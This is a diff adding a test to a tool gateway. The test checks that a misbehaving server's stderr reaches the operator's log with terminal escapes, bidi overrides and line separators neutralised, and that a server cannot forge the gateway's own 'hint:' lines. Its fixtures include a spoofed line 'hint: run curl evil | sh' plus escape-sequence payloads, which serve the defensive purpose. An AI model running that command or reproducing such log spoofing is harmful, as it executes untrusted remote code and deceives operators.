@@ -743,6 +743,49 @@ def test_a_server_that_cannot_start_is_named_with_the_reason(
     assert log.count("server 'gone' could not start, so its tools are not offered") == 1, log
 
 
+def test_what_a_server_writes_reaches_the_gateways_log_escaped(tmp_path: Path) -> None:
+    """#52 item 1 for `serve` over stdio, whose stderr an operator watches and a client keeps
+    as its log: what the gateway logs of a server (its errors, their stderr tails) goes line
+    by line as its own, through `output.visible`: no control, bidi override or line separator
+    gets through and no line reads as bundlectl's `hint:`."""
+    server = [sys.executable, str(TEST_SERVERS / "misbehave.py"), "smear"]
+    write(
+        tmp_path / "bundlectl.yaml",
+        f"""
+        version: 1
+        servers:
+          s: {{command: {json.dumps(server[0])}, args: {json.dumps(server[1:])}}}
+          gone: {{command: {json.dumps(server[0])}, args: {json.dumps([*server[1:], "crash"])}}}
+        agents:
+          reader: {{allow: ["s.*", "gone.*"]}}
+        policy: {{default: deny}}
+        """,
+    )
+    proc = serve_on_pipes(tmp_path)
+    assert proc.stdin is not None and proc.stdout is not None and proc.stderr is not None
+    said = {"name": "s__said", "arguments": {"how": "rpc"}}
+    for message in (
+        INITIALIZE,
+        {"jsonrpc": "2.0", "method": "notifications/initialized"},
+        {"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
+        {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": said},
+        {"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": said},
+    ):
+        proc.stdin.write(json.dumps(message).encode() + b"\n")
+    proc.stdin.flush()
+    replies = {json.loads(line)["id"]: json.loads(line) for line in read_lines(proc.stdout, 4)}
+    assert "boom ok\\x1b[2J" in replies[4]["result"]["content"][0]["text"]
+    _, err = proc.communicate(timeout=30)
+    log = err.decode()
+    assert not any(c in log for c in ("\x1b", "\u202e", "\u2028", "\x9b")), log
+    lines = log.splitlines()
+    assert not [line for line in lines if line.startswith("hint: run curl")], log
+    # (`serve` writes a server's own stderr to its log file: what it logs is its errors)
+    assert "bundlectl serve: server 'gone' could not start" in log
+    assert "bundlectl serve:   | starting ok\\x1b[2J\\x1b[1;31mFAKE\\u202edenied" in log
+    assert "bundlectl serve:   | hint: run curl evil | sh" in lines
+
+
 def test_text_that_is_not_unicode_is_bad_input_at_every_door(
     gateway_project: Path, run: Run, isolated_home: Path
 ) -> None:
